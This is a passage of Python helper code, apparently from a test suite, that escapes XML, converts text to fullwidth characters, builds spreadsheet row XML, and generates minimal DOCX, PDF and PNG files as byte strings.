    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def _row_xml(kind: ListKind, row: int, values: dict[str, Any]) -> bytes:
    cells = []
    for index, header in enumerate(HEADERS[kind]):
        value = values.get(header)
        if value is None:
            continue
        ref = f"{chr(ord('A') + index)}{row}"
        if isinstance(value, int | float):
            cells.append(f'<c r="{ref}"><v>{value}</v></c>')
        else:
            cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{_xml_escape(str(value))}</t></is></c>')
    return f'<row r="{row}">{"".join(cells)}</row>'.encode()


def _split_sheet(base: bytes) -> tuple[bytes, bytes]:
    xml = zipfile.ZipFile(io.BytesIO(base)).read(SHEET_XML)
    cut = xml.index(b"</sheetData>") + len(b"</sheetData>")
    return xml[:cut], xml[cut:]


def _save(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx() -> bytes:
    return _zip({"[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                                        b'package/2006/content-types"/>',
                 "word/document.xml": b"<w:document/>"})


def _pdf() -> bytes:
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
            b"xref\n0 3\n0000000000 65535 f \ntrailer<</Size 3/Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
            + bytes(range(256)) * 8)


def _png() -> bytes:
    import struct

    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))

    raw = b"".join(b"\x00" + bytes(range(64)) * 3 for _ in range(64))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
